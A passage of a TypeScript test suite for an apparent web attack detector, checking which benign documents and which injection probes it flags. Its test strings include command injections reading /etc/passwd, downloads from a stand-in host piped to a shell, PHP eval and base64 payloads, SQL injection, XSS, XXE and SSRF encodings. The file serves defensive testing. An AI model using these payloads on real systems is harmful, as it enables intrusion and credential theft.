  for (const v of ['cat$IFS/etc/passwd', ';ls$IFS-la', 'cat${IFS}/etc/passwd', ';cat$IFS$9/etc/passwd']) t.ok(q(v).includes('rce'), v)
  t.same(json({ text: doc('upgraded my system to the testing distribution and now my /etc/issue\nsays "trixie/sid". Should it not say something else?') }), [], 'a system file ending a line, its sentence going on')
  t.ok(json({ text: doc('upgraded my system and read ../../../../etc/issue\nsays the log') }).includes('path_traversal'), 'climbing to it still counts')
})

t.test("twenty-seventh round (documents on this machine): reStructuredText's literals, a JSON Schema's patterns, a build's make", async (t) => {
  t.same(json({ description: 'or as a ``dict``-like structure with a single key ``find``' }), [], "reStructuredText's double backticks open no substitution")
  t.ok(q(';``id``').includes('rce'), 'an empty substitution before a command after a separator still is one')
  const schema = { $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', additionalProperties: false, properties: { DataFrequency: { type: 'string', pattern: '^Y|M|W|D|H|30min|15min|10min|5min|1min$' }, Url: { type: 'string', pattern: '^(?![^:\\\\]*/action/|(?i).*<script>.*</script>.*)[^:\\\\]+$' } } }
  t.same(json(schema), [], "a schema's patterns are regular expressions for its validator")
  t.ok(json({ ...schema, description: '; cat /etc/passwd' }).includes('rce'), "the schema's other fields are still read")
  t.ok(json({ pattern: '; cat /etc/passwd', type: 'object', properties: {} }).includes('rce'), 'a `pattern` field outside a schema still is read')
  const readme = (line: string) => `Nettle\n======\n\nNettle is a cryptographic library that is designed to fit easily in more or less any context.\n\nTo build it, run\n\n  ${line}\n\n(see the INSTALL file for details).\n`
  t.same(json({ text: readme('./configure && make && make check && make install') }), [], "a build's instructions")
  t.same(json({ text: readme('make distclean; ./configure; make') }), [], 'and with semicolons')
  t.ok(json({ text: readme('./configure && make && wget http://203.0.113.7/x.sh -O- | sh') }).includes('rce'), 'a download piped to a shell after them still is')
})

t.test('twenty-seventh round (spent parts): a whole value that is one substitution, a parameter and its value before a line break', async (t) => {
  t.ok(q('`echo bHMgLWxh | base64 -d`').includes('rce'), "a substitution's own pipe")
  t.same(q('```\nls\n```'), [], "a Markdown fence's listing still is none")
  for (const v of ['param=value\nwhoami', 'vuln=127.0.0.1 \n wget https://203.0.113.7/reverse.txt -O /tmp/reverse.php', 'a=ls\n$a', 'Qname=root\ncat /etc/passwd']) t.ok(q(v).includes('rce'), JSON.stringify(v))
  for (const v of ['name=foodforthought.jpg\necho ${name##*fo}\n', 'name=John\necho "Hello $name"', 'scale=2\nprint "\\nCheck book program!\\n"\nprint "  Exit by a 0 transaction.\\n\\n"']) t.same(json({ snippet: v }), [], JSON.stringify(v))
})

t.test("twenty-seventh round (SchemaStore's schemas, measured once, then tuned on): a tag named in prose, a usage's choices, a quoted keyword a sentence goes on after", async (t) => {
  t.same(json({ description: 'Set a list of JavaScript files in your docs_dir to be included by the theme, as <script> tags.' }), [], 'a tag named with the word tag')
  t.same(json({ description: "Loaded as <script type='module'> elements by the page." }), [], 'with its type')
  for (const v of ['<svg onload=alert(1)> tags', '<script src=//evil.example/x.js> tags', '<script>alert(1)</script> tags']) t.ok(q(v).includes('xss'), `${v}: a handler or a source still counts`)
  t.same(json({ description: '[collapse|expand|end-expand|none][,preserve-inline]  [JS,HTML]' }), [], "a usage's choices in brackets")
  for (const v of ['x|id', 'a [b|id', '[x] | id -a']) t.ok(q(v).includes('rce'), `${v}: a pipe outside the choices still is one`)
  for (const v of ['combined with an "OR" relationship - only one of the ranges needs to match', "A list of conditions to join using 'or'.", "type 'or' here"]) t.same(q(v), [], v)
  for (const v of ["x' or 'a'='a", "'or'1'='1", "admin' or '1", "search term' or 'a", "type 'or' 1=1"]) t.ok(q(v).includes('sqli'), `${v}: still an injection`)
})

t.test('twenty-seventh round (the twelfth part, spent): a product and its version, then a word of another alphabet', async (t) => {
  const page = '## Определите параметры `File`\n\nСоздайте параметры `File` так же, как вы это делаете для `Body`:\n\n//// tab | Python 3.8+ без Annotated\n\n```Python hl_lines="9"\n{!> ../../docs_src/request_files/tutorial001.py!}\n```\n\n////\n'
  t.same(json({ body: page }), [], "a translated MkDocs tab's title")
  t.ok(q('x | python 3.8 -c "import os"').includes('rce'), 'an interpreter given a command still is one')
})

t.test("twenty-seventh round (the evaluation snapshots' GitHub workflows, as JSON): the runner's expressions and a step's own script", async (t) => {
  const workflow = (step: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({ name: 'CI', on: { push: { branches: ['main'] } }, jobs: { test: { 'runs-on': 'ubuntu-latest', steps: [{ uses: 'actions/checkout@v4' }, step], ...extra } } })
  t.same(json(workflow({ name: 'Check', if: "always() && steps.semver.outcome != 'skipped'", run: 'npm test' })), [], "an `if`'s expression")
  t.same(json(workflow({ uses: 'actions/cache@v4', with: { key: "pre-commit|${{ hashFiles('pyproject.toml', '.pre-commit-config.yaml') }}" } })), [], "a `${{ … }}` the runner replaces")
  t.same(json(workflow({ run: 'RELEASE_VERSION=$(jq -r \'.version\' package.json)\necho "RELEASE_VERSION=$RELEASE_VERSION" >> $GITHUB_ENV\nPREVIOUS_VERSION=$(git describe --tags --abbrev=0)\n' })), [], "a step's script, its first line its own")
  t.ok(json(workflow({ run: 'curl -s https://203.0.113.7/x.sh | bash' })).includes('rce'), 'a download piped to a shell still counts')
  t.ok(json(workflow({ name: "x'; cat /etc/passwd; echo '", run: 'npm test' })).includes('rce'), "an injection into a step's name still counts")
  t.ok(json({ if: "1' or '1'='1", steps: 'x' }).includes('sqli'), 'an `if` outside a workflow is read')
  t.ok(json({ ...workflow({ run: 'npm test' }), if: "1' or '1'='1" }).includes('sqli'), "an `if` a workflow does not put there is read")
  t.ok(json(workflow({ name: "1' or '1'='1", if: "1' or '1'='1", run: 'npm test' })).includes('sqli'), 'an `if` written elsewhere too is read')
  t.ok(json(workflow({ uses: 'actions/cache@v4', with: { key: "x${{ '; cat /etc/passwd' }}" } })).includes('rce'), "a `${{ … }}` with a shell's metacharacters is read")
})

t.test("twenty-seventh round, review: a substitution's own quoting is no GNU quotation, an empty pair opening the value, $IFS between quoted words, a request's `pattern` beside a schema's keys", async (t) => {
  // an apostrophe glued to more of the word inside backticks is the shell's quoting; the substitution still runs
  for (const v of ["`cat /et'c/passwd'`", ";`cat /etc'/'passwd`", "`sleep 1'0'`", "1|`sleep 5'.'0`", "`ping -c'10' 127.0.0.1`", "`perl -e'exec qw(id)'`", "x`uname -'a'`"]) t.ok(q(v).includes('rce'), v)
  t.same(json({ text: "they should use `perl' (which depends on `perl-modules-5.xx') instead; `time' reports and `swapon -a'." }), [], 'GNU quotations still are none')
  // an empty pair of backticks opening the value expands to nothing before the command
  for (const v of ['``id``', '``sleep 5``']) t.ok(q(v).includes('rce'), v)
  t.same(json({ description: 'or as a ``dict``-like structure with a single key ``find``' }), [], "reStructuredText's literals in text still are none")
  // $IFS between quoted words is unquoted, it parts them
  for (const v of ["'cat'$IFS'/etc/passwd'", ';"cat"$IFS"/etc/passwd"', ";'ls'$IFS'-la'"]) t.ok(q(v).includes('rce'), v)
  t.same(q('get their argument split at "$IFS" whitespaces by the shell'), [], '"$IFS" named in prose still is none')
  // a request's own `pattern` field is read whatever schema keywords are sent beside it
  t.ok(json({ pattern: '; cat /etc/passwd', $ref: '#' }).includes('rce'), 'beside $ref')
  t.ok(json({ pattern: '<script>alert(1)</script>', additionalProperties: false }).includes('xss'), 'beside additionalProperties')
  t.ok(json({ filter: { type: 'string', pattern: 'a;id' }, $ref: 'x' }).includes('rce'), "in an object that is no schema's subschema")
  t.ok(json({ properties: { a: { type: 'string', pattern: '; id' } }, $ref: '#', filter: '; id' }).includes('rce'), "the same text in another field than a subschema's pattern")
  t.same(json({ $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', properties: { Names: { type: 'array', items: { type: 'string', pattern: '^Y|M|W|D$' } }, Keys: { type: 'object', propertyNames: { pattern: '^(a|b|c)$' } } } }), [], "a schema's patterns still are skipped, in items and propertyNames too")
})

t.test('twenty-seventh round, read again: a document too large to walk whole has none of its patterns or conditions skipped', async (t) => {
  // the largest body the detector may be set to read (insight.maxInspectBytes: at most 1MiB), so that the walks' bounds are what ends them
  const wide = new AttackDetector({ maxInspectBytes: 1024 * 1024 })
  const body = (doc: unknown) => wide.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(doc)) })
  const pattern = '; cat /etc/passwd'
  const small = { $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', properties: { a: { type: 'string', pattern } } }
  t.same(body(small), [], "a small schema's pattern is its validator's")
  t.ok(body({ ...small, examples: new Array(5000).fill(0) }).includes('rce'), "past the walk's bound, the pattern is read")
  const workflow = (extra: unknown[]) => ({ name: 'CI', jobs: { test: { 'runs-on': 'ubuntu-latest', steps: [{ if: "1' or '1'='1", run: 'npm test' }], matrix: extra } } })
  t.same(body(workflow([])), [], "a small workflow's condition is its runner's")
  t.ok(body(workflow(new Array(9000).fill(0))).includes('sqli'), "past the walk's bound, a step's condition is read")
})

t.test('twenty-eighth round (spent parts): a substitution whose glob reads as a pattern, sinks joined from PHP pieces, Perl opening a pipe, positional no-ops, NoSQL returns', async (t) => {
  // a command substitution is no regular expression, whatever its glob looks like
  for (const v of ['$(ls -la /etc/cron.*)', 'x $(ls /etc/cron.*) y']) t.ok(q(v).includes('rce'), v)
  for (const v of ['^\\$(\\d+).*)', '(?:foo|bar).*)', '(?:|service)$(', '^v(\\d+)\\.(\\d+).*$']) t.notOk(q(v).includes('rce'), `${v}: a pattern`)
  // a sink's name joined from string pieces, then called
  for (const v of ["$a='sy'.'stem';$a('ls');", '("sys"."tem")("id")', '(sy.(st).em)(whoami);']) t.ok(q(v).includes('rce'), v)
  t.ok(q('a.b '.repeat(40) + "$a='sy'.'stem';$a('ls');").includes('rce'), 'after many joined names that spell nothing')
  const t0 = process.hrtime.bigint()
  q('a.b.c.d.e.f.g.h.'.repeat(1000) + '(x)')
  t.comment(`16 KB of joined names: ${Number(process.hrtime.bigint() - t0) / 1e6} ms`)
  for (const v of ["$name = 'first' . 'last'; $f($x);", 'x = a.b.c(d)', 'a.sys.tem(1)', "$s = 'pass' . 'word'; print($s);"]) t.notOk(q(v).includes('rce'), `${v}: no sink spelt`)
  // Perl's two-argument open of a pipe to a program
  for (const v of ["open(F,'ls|')", 'open(FH, "|/bin/sh -i")']) t.ok(q(v).includes('rce'), v)
  for (const v of ["open(F, 'notes.txt')", "open(LOG, '>>log.txt')", 'open(XV, "|xv -") and print XV $u->data;']) t.notOk(q(v).includes('rce'), `${v}: a file, or a viewer`)
  // an unset positional parameter inside a program's name is nothing
  t.ok(q(';who$1ami').includes('rce'))
  t.notOk(q('s/(a)/x$1y/g').includes('rce'), 'a replacement’s group')
  // NoSQL: a return of true cut by a comment, or written as a call
  for (const v of [';return true;//', "';return(true);'"]) t.ok(q(v).includes('nosqli'), v)
  t.notOk(q('return true; // the default').includes('nosqli'))
  // (the fifteenth part, spent) an address whose hex labels carry leading zeros
  t.ok(q('http://0x000000007f.0x000000000.0x000000000.0x000000001', 'url').includes('ssrf'))
  t.ok(q('http://0x7f.0x000000000.0x0.0x1', 'url').includes('ssrf'))
})

t.test("twenty-eighth round (Perl modules on this machine): a Perl program's source is code, its sigil logic, code references and own process calls", async (t) => {
  const module = (body: string) => `# -*- mode: perl; -*-\n\npackage Math::Thing::Trace;\n\nuse strict;\nuse warnings;\n\nour $VERSION = '0.65';\n\n${body}\n\n1;\n`
  for (const body of [
    'sub new {\n    my $proto = shift;\n    my $class = ref($proto) || $proto;\n    return bless {}, $class;\n}',
    'sub AUTOLOAD {\n    require utf8_heavy;\n    goto &$AUTOLOAD if defined &$AUTOLOAD;\n}',
    'sub run {\n    my ($cmd, @args) = @_;\n    system($cmd, @args);\n}',
    'sub mail {\n    my ($title, $admin) = @_;\n    exec("mail", "-s", $title, $admin) or return "";\n}',
    'sub check {\n    unless (exists &{$field}) {\n        croak "no such field";\n    }\n}',
  ]) t.same(json({ text: module(body) }), [], body.split('\n')[1]!)
  // the same lines are still judged outside a Perl program
  t.ok(q('x || $CMD').includes('rce'), 'a variable run after || in a value')
  t.ok(q('; system($cmd)').includes('rce'), 'a sink after a separator')
  // a PHP program is no Perl program: its sinks stay sinks
  t.ok(json({ text: '<?php\nfunction run($c) {\n    return system($_GET["cmd"]);\n}\nrun(1);\n?>' }).includes('rce'))
  // its own backticks are its own (as Python's subprocess calls are), a system file it names is still one
  t.same(json({ text: module('sub tag {\n    my $x = `git describe --tags`;\n    return $x;\n}') }), [])
  t.ok(json({ text: module('sub pw {\n    open(my $fh, "<", "/etc/shadow");\n    return <$fh>;\n}') }).includes('path_traversal'))
})

t.test("twenty-eighth round, review: `use strict;` above a PHP payload makes no Perl program of it; a method's call spells no joined sink", async (t) => {
  const perlish = (line: string) => `use strict;\nuse warnings;\nmy $cmd = 'x';\nmy $out = 'y';\n${line}\n`
  for (const line of ["system('cat /etc/passwd');", "exec('whoami');", "shell_exec('id');", "passthru($_GET['c']);", "system($_GET['c']);", "eval(base64_decode($_POST['x']));", "system('curl http://203.0.113.7/x | sh');"]) {
    t.ok(json({ text: perlish(line) }).includes('rce'), line)
  }
  // a Perl module's own process calls stay its own
  const module = (body: string) => `# -*- mode: perl; -*-\n\npackage Math::Thing::Trace;\n\nuse strict;\nuse warnings;\n\nour $VERSION = '0.65';\n\n${body}\n\n1;\n`
  for (const body of ['sub run {\n    my ($cmd, @args) = @_;\n    system($cmd, @args);\n}', 'sub ver {\n    system("make", "-C", $dir) == 0 or die;\n}']) t.same(json({ text: module(body) }), [], body)
  // Python's `p.open('w')` is a method's call (the pieces `p` and `open` spell `popen`): the joined name is called only past its parentheses
  for (const v of ["with p.open('w') as f:", "q = p.open(mode='r')", 'p.open() ; $x(1)']) t.notOk(q(v).includes('rce'), v)
  for (const v of ["$a='sy'.'stem';$a('ls');", '("sys"."tem")("id")', '(sy.(st).em)(whoami);', '$a=sy.stem;$a(id);', "('pass'.'thru')('id');"]) t.ok(q(v).includes('rce'), v)
})

t.test("twenty-eighth round (Python's plistlib on this machine): a format's own DTD by its publisher is no external entity", async (t) => {
  const xml = (doctype: string) => raw({ headers: { 'content-type': 'application/xml' }, body: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n<x/>\n`) })
  for (const d of [
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    '<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd">',
    '<!DOCTYPE configuration PUBLIC "-//mybatis.org//DTD Config 3.0//EN" "http://mybatis.org/dtd/mybatis-3-config.dtd">',
    '<!DOCTYPE web-app PUBLIC "-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">',
  ]) t.same(xml(d), [], d)
  for (const d of [
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com.evil.example/x.dtd">',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://evil.example/www.apple.com/DTDs/x.dtd">',
    '<!DOCTYPE foo PUBLIC "x" "ftp://www.apple.com/DTDs/x.dtd">',
  ]) t.ok(xml(d).includes('xxe'), d)
})

t.test("twenty-eighth round (XML files on this machine): a vocabulary's own DTD, by its publisher or declaring only elements and attributes", async (t) => {
  const xml = (doc: string) => raw({ headers: { 'content-type': 'application/xml' }, body: Buffer.from(`<?xml version="1.0"?>\n${doc}`) })
  for (const d of [
    '<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd">\n<Configure class="org.eclipse.jetty.server.Server"/>',
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>',
    '<!DOCTYPE node PUBLIC "-//freedesktop//DTD D-BUS Object Introspection 1.0//EN" "http://www.freedesktop.org/standards/dbus/1.0/introspect.dtd">\n<node/>',
    '<!DOCTYPE targetset SYSTEM "http://docbook.sourceforge.net/release/xsl/current/common/targetdatabase.dtd">\n<targetset/>',
    '<!DOCTYPE iso_639_entries [\n\t<!ELEMENT iso_639_entries (iso_639_entry+)>\n\t<!ATTLIST iso_639_entry name CDATA #REQUIRED>\n]>\n<iso_639_entries/>',
    '<!DOCTYPE doc [<!ATTLIST e9 attr CDATA "default">]>\n<doc><e9/></doc>',
    '<!DOCTYPE x SYSTEM "filename.dtd"><x/>',
  ]) t.same(xml(d), [], d.split('\n')[0]!)
  for (const d of [
    '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar "World">]><foo>Hello &bar;</foo>',
    '<!DOCTYPE root [\n <!ELEMENT root ANY>\n <!ENTITY A "AAAAAAAAAA">\n]>\n<root>&A;&A;&A;</root>',
    '<!DOCTYPE foo [ <!ELEMENT foo ANY >',
    '<!DOCTYPE x [<!ATTLIST x a CDATA #IMPLIED><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><x/>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    '<!DOCTYPE x SYSTEM "http://jetty.org.evil.example/x.dtd"><x/>',
    '<!DOCTYPE x SYSTEM "https://jetty.org@evil.example/x.dtd"><x/>',
    '<!DOCTYPE x PUBLIC "a" "http://www.w3.org@evil.example/x.dtd"><x/>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
  ]) t.ok(xml(d).includes('xxe'), d.split('\n')[0]!)
})

t.test('twenty-ninth round (the sixteenth part, spent): probes that comment the line out, an echo to a file, decoded and bare sinks, SQL across path segments, a sub-query in arithmetic, remote inclusion', async (t) => {
  // one listed program after a quote or a separator, the rest of the line commented out: sh's `#`, cmd's `rem` (`,` and `;` parting words)
  for (const v of ['"&rm,q93432438&rem,', '";del q35544877 #', '"ver,>q33358897&rem,', '"ping,-w,11000,-n,1,4.3.2.1|rem,', '"uname >q95826835 #', "'sleep 10 #", '"&ver&rem', 'stuff="del;q17781936&rem;']) {
    t.ok(q(v).includes('rce'), v)
  }
  for (const v of ['"see you #', '"time flies #', "'id #", 'Tom & Jerry & rem', 'a & rem', '"hello world #', 'x=1&rem=2', "'; echo ok", 'R&D | rem']) t.notOk(q(v).includes('rce'), `${v}: no program, or a sentence`)
  // an echo whose words go to a file, after a strong separator
  for (const v of ['" || echo a 1f4 >>esbq', '; echo a > f', 'x && echo 4d 5a >>/tmp/x.scr']) t.ok(q(v).includes('rce'), v)
  for (const v of ['echo "hello world" > greeting.txt', 'a | echo b']) t.notOk(q(v).includes('rce'), `${v}: a command line alone, or no file`)
  // a command sink handed a decoded string or a request's server variable; a probe's program named bare, as PHP reads a constant
  for (const v of ["';passthru(base64_decode($_server[http_nessus_x]));die;/*", "']);}error_reporting(0);exec(base64_decode($_SERVER[HTTP_CMD]));die;#", 'system(gzinflate(base64_decode("x")))', "eval($_SERVER['HTTP_X'])", 'itemid=2|system(id)|1332008331', '@system(whoami);@']) {
    t.ok(q(v).includes('rce'), v)
  }
  for (const v of ['base64_decode($x)', 'system(info)', 'the system(id) call']) t.notOk(q(v).includes('rce'), `${v}: no sink, or no probe's program`)
  // SQL whose empty comments for blanks split it across a path's segments
  const path = (p: string) => detector.detect({ ...base, path: p })
  for (const p of ["/items/id='union/**/select/**/0,0,1645029612,0,0--", '/blog/op=viewalbum&albumid=-1/**/union/**/select/**/0,1,2--']) t.ok(path(p).includes('sqli'), p)
  for (const p of ['/src/**/index.js', '/docs/**/select/**/readme']) t.notOk(path(p).includes('sqli'), `${p}: a glob`)
  // a number's arithmetic on a sub-query, in a numeric context
  for (const v of ["(1-(select null from (select null) t where 'a'='a'))", '1-(select 1 from dual)']) t.ok(q(v).includes('sqli'), v)
  t.notOk(q('2-(select all that apply)').includes('sqli'), 'a questionnaire')
  // a remote file handed to a parameter that names a file, its appended suffix cut off
  for (const [name, v] of [['page', 'http://evil.example/shell.txt?'], ['config[path]', 'http://192.0.2.7:8080/x?'], ['file', 'ftp://evil.example/x.txt%00']] as const) {
    t.ok(q(v, name).includes('path_traversal'), `${name}=${v}`)
  }
  for (const [name, v] of [['page', 'https://example.com/docs/page'], ['url', 'http://evil.example/shell.txt?'], ['page', 'https://example.com/?q=1']] as const) t.notOk(q(v, name).includes('path_traversal'), `${name}=${v}`)
})

t.test('twenty-ninth round (configuration tests of a schema catalogue, as JSON): a cut form field holding JSON, a runner expression over lines, a command field naming its program, a document\'s own LDAP filter', async (t) => {
  const form = (body: string) => raw({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
  // a form's `payload=` holding a manifest past maxInspectBytes (16 KiB): its members complete before the cut are JSON, its command lines fields
  const manifest = JSON.stringify({ tasks: Array.from({ length: 200 }, (_, i) => ({ key: `T${i}`, scripts: ["echo 'echo success' > script.sh", 'touch report.xml'], interpreter: '/bin/sh' })) }, null, 2)
  t.ok(manifest.length > 20_000)
  t.same(form(`payload=${encodeURIComponent(manifest)}`), [], 'a cut manifest')
  t.ok(form(`payload=${encodeURIComponent(JSON.stringify({ a: "' or 1=1--", b: 'x'.repeat(20_000) }))}`).includes('sqli'), 'a member complete before the cut is still read')
  // a workflow's expression written over lines
  const workflow = { jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ run: "print(\n  \"::set-output name=key::${{\n      hashFiles(\n        'setup.cfg', 'setup.py'\n      )\n  }}\",\n)\n" }] } } }
  t.same(json(workflow), [])
  t.ok(json({ jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ name: '${{\n matrix.os }}<script>alert(1)</script>' }] } } }).includes('xss'), 'what follows an expression over lines is read')
  // a command field naming the program it runs by its path
  for (const doc of [{ processes: [{ executable: '/var/vcap/data/packages/hello-world/serve.sh' }] }, { command: '/opt/app/bin/start.sh' }]) t.same(json(doc), [], JSON.stringify(doc))
  for (const doc of [{ file: '/var/log/maillog' }, { executable: '/etc/passwd' }]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
  // a document's own LDAP filters, whole; a break-out in one is still one
  const directory = (filter: string) => json({ auth: { ldap: { url: 'ldaps://ldap.example.com', bindDn: 'cn=admin,dc=example,dc=com', users: { base: 'ou=people,dc=example,dc=com', filter: '(uid=*)' }, groups: { base: 'ou=groups', filter } } }, name: 'app', port: 8080, log: 'info', title: 'Console', owner: 'ops', region: 'eu', tier: 'prod', team: 'core', note: 'x', a: '1', b: '2', c: '3', d: '4' })
  t.same(directory('(&(objectClass=some-group-class)(!(groupType=email)))'), [])
  t.ok(directory('*)(uid=*))(|(uid=*').includes('ldapi'))
  t.ok(q('(&(objectClass=person)(uid=jdoe))', 'filter').includes('ldapi'), 'a whole filter sent as a field is still reported')
})

t.test('review of the twenty-ninth round: a cut JSON text only where the cut is, its cut member read; sentences after a quote; a document\'s filter under its key', async (t) => {
  const form = (body: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
  const pad = 'a'.repeat(17_000)
  // a field opening on `{"a":1,` before a probe is no JSON document because the body was padded past the cut: not a field the cut
  // did not end, not a string inside a JSON body, not text after the last comma that is no JSON's beginning
  t.ok(form(`q=${encodeURIComponent('{"a":1,;cat /etc/passwd #xxxxx')}&pad=${pad}`).includes('rce'), 'another field than the cut one')
  t.ok(form(`q=${encodeURIComponent('{"a":1,\' union select password from users--')}&pad=${pad}`).includes('sqli'), 'another field, SQL')
  t.ok(json({ q: '{"a":1,<script>alert(1)</script>', pad }).includes('xss'), "a string inside a cut JSON body")
  t.ok(form(`payload=${encodeURIComponent('{"a":1,; cat /etc/passwd #' + pad)}`).includes('rce'), 'the cut field, no JSON after its last comma')
  t.ok(form(`payload=${encodeURIComponent('{"a":1,"q":"; cat /etc/passwd #' + pad)}`).includes('rce'), "the cut field's cut member is read")
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from('{"a":1,"q":"; cat /etc/passwd #' + pad + '"}') }).includes('rce'), "a JSON body's cut member is read")
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'text/plain' }, body: Buffer.from('{"a":1,;cat /etc/passwd #x\n' + pad) }).includes('rce'), 'a text body')
  // a post opening on a quote and ending on a hashtag is a sentence; the probes are still read
  for (const v of ['"Kill them with kindness #quote', '"find your calm #meditation', '"top 10 #movies', '"sort by date #1', '"python tips #coding', "'touch grass #mood"]) t.notOk(q(v).includes('rce'), v)
  for (const v of ["'sleep 10 #", '"uname >q1 #', '"ping 8.8.8.8 #', '"; del q1 #', '"cat /etc/passwd #', '"ls -la #']) t.ok(q(v).includes('rce'), v)
  // a document's whole filter is its own under a key naming a filter; a request padded into a document still sends a probe
  const doc = (extra: Record<string, string>) => json({ a1: 'x', a2: 'y', a3: 'z', a4: 'w', a5: 'v', a6: 'u', a7: 't', a8: 's', a9: 'r', a10: 'q', a11: 'p', ...extra })
  t.ok(doc({ user: '(|(uid=*)(userPassword=*))' }).includes('ldapi'), 'under a user field')
  t.same(doc({ userFilter: '(&(objectClass=person)(uid=*))' }), [], "a directory's configured filter")
})

t.test('review of the twenty-ninth round, second part: remote inclusion by key, bare sinks as statements, echo to a file spliced or appended, a sub-query selecting a literal, runner expressions over lines, a command field\'s program outside system directories', async (t) => {
  // a page's key needs a script's or a text's file; a key naming the file any remote file
  for (const [name, v] of [['page', 'http://evil.example/shell.txt?'], ['page', 'http://evil.example/shell.txt#'], ['page', 'http://evil.example/x.php?x='], ['config[path]', 'http://192.0.2.7:8080/moclyxlwqyfjnp?'], ['include', 'http://evil.example/x?']] as const) {
    t.ok(q(v, name).includes('path_traversal'), `${name}=${v}`)
  }
  for (const [name, v] of [['page', 'https://example.com/shop?'], ['source', 'https://www.google.com/?'], ['src', 'http://t.co/abc?'], ['doc', 'https://docs.example.com/guide.html?']] as const) {
    t.notOk(q(v, name).includes('path_traversal'), `${name}=${v}`)
  }
  // a bare probe sink is a statement of its own, not an assignment's or a call's argument
  for (const v of ['int r = system(id);', 'x = exec(id)', '(exec(id))', 'see (system(hostname)) here']) t.notOk(q(v).includes('rce'), v)
  for (const v of ['|system(id)|', '@system(whoami);@', ';system(id);']) t.ok(q(v).includes('rce'), v)
  // an echo to a file: appended, or in a value spliced into a command line
  for (const v of ['cd build; echo done > status.txt', 'mkdir -p out && echo built > out/stamp', 'Sorry for the delay; echo chamber > reality #thoughts']) t.notOk(q(v).includes('rce'), v)
  for (const v of ['; echo a > f', '" || echo a 1f4 >>esbq', 'x && echo 4d 5a >>/tmp/x.scr']) t.ok(q(v).includes('rce'), v)
  // a number's arithmetic on a sub-query selecting a literal, a call or everything
  for (const v of ['1-(select one from the list)', '3-(Select items from cart)']) t.notOk(q(v).includes('sqli'), v)
  for (const v of ['1-(select 1 from dual)', '1+(select count(*) from users)', "(1-(select null from (select null) t where 'a'='a'))"]) t.ok(q(v).includes('sqli'), v)
  // a runner's expression over lines only where it opens on a context's name or a call
  const workflow = (title: string) => json({ jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ name: 'build', run: 'make' }] } }, title })
  t.ok(workflow("${{\n' or 1=1 --\n}}").includes('sqli'))
  t.ok(workflow('${{\n../../../../etc/passwd\n}}').includes('path_traversal'))
  t.same(workflow("${{\n  hashFiles(\n 'setup.cfg'\n )\n}}"), [])
  // a command field's own program, not one in a system's or a temporary directory
  for (const doc of [{ command: '/etc/cron.daily/backdoor.sh' }, { exec: '/var/tmp/x.sh' }, { build: '/root/bin/x' }]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
  t.same(json({ executable: '/var/vcap/data/packages/hello-world/serve.sh' }), [])
})

t.test('review of the twenty-ninth round: a JSON body cut inside a tag of its last string drops that tag, not what was closed before it', async (t) => {
  const body = (text: string) => raw({ headers: { 'content-type': 'application/json' }, body: Buffer.from(text) })
  const prose = 'Returns a list of prices for a service. For a full list of service codes, see the reference. '.repeat(200)
  // cut at 16 KiB inside an API description's link, `<a href=\"https://docs…`
  t.same(body(`{"version":"2.0","documentation":"${prose.slice(0, 16_300)}<a href=\\"https://docs.example.com/${'x'.repeat(400)}\\">more</a>."}`), [])
  // a tag closed before the cut is read
  t.ok(body(`{"a":1,"q":"<svg onload=alert(1)> ${'a'.repeat(17_000)}"}`).includes('xss'))
})

t.test('twenty-ninth round (the seventeenth part, spent): a number is no address unless it spells an internal one, a bitwise and in parentheses, a page cut in a link, high bytes for markup, an operand then a statement', async (t) => {
  // a decimal number under a URL's or an address's key: a page number, a postcode, a year
  for (const [name, v] of [['page', '12'], ['page', '2024'], ['address', '25740'], ['address', '02037'], ['image_url', '1234'], ['address', '134744072']] as const) t.notOk(q(v, name).includes('ssrf'), `${name}=${v}`)
  for (const [name, v] of [['url', '2130706433'], ['address', '3232235777'], ['host', '2852039166'], ['url', '017700000001'], ['url', '127.1'], ['url', '0x7f000001'], ['url', 'http://12/']] as const) t.ok(q(v, name).includes('ssrf'), `${name}=${v}`)
  // a bitwise and of operands in parentheses; a subshell's job is still one
  t.notOk(q('return (char_table[c] & type);').includes('rce'))
  t.notOk(q('if ((flags & file) != 0) return;').includes('rce'))
  for (const v of ['(sleep 5 & id)', '(x & whoami)']) t.ok(q(v).includes('rce'), v)
  // a long page cut inside its last link is no dangling markup; a short injection is
  const page = '<div><p>Update posted.</p><p>See <a href="https://example.com/a">this</a> and <a href="https://example.com/b">that</a>.</p></div> '.repeat(6)
  t.notOk(json({ comment: `${page}<a href="https://dioxus.notion.site/Dioxus-Labs-High-lev` }).includes('xss'))
  t.ok(q('<img src="//evil.example/?').includes('xss'))
